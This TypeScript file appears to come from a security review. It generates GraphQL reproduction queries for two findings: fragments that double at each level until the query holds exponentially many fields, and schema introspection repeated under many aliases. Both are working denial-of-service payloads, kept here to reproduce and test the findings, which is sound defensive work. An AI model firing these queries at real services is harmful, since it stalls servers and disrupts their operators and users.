// The stall review's GraphQL reproductions: documents small in bytes whose naive
// handling grows exponentially or weighs far more than they do.

/** Finding 1: each fragment spreads the one before twice, so the query holds 2^levels fields. */
export function doublingFragments(levels: number): string {
  const fragments = ["fragment F0 on Query { me { id } }"];
  for (let level = 1; level <= levels; level += 1) {
    fragments.push(`fragment F${level} on Query { ...F${level - 1} ...F${level - 1} }`);
  }
  return `query { ...F${levels} } ${fragments.join(" ")}`;
}

/** Finding 2: the whole schema asked `count` times under aliases. */
export function introspectionByAliases(count: number): string {
  const copies = Array.from({ length: count }, (_, index) => `a${index}: __schema { types { fields { name } } }`);
  return `{ ${copies.join(" ")} }`;
}
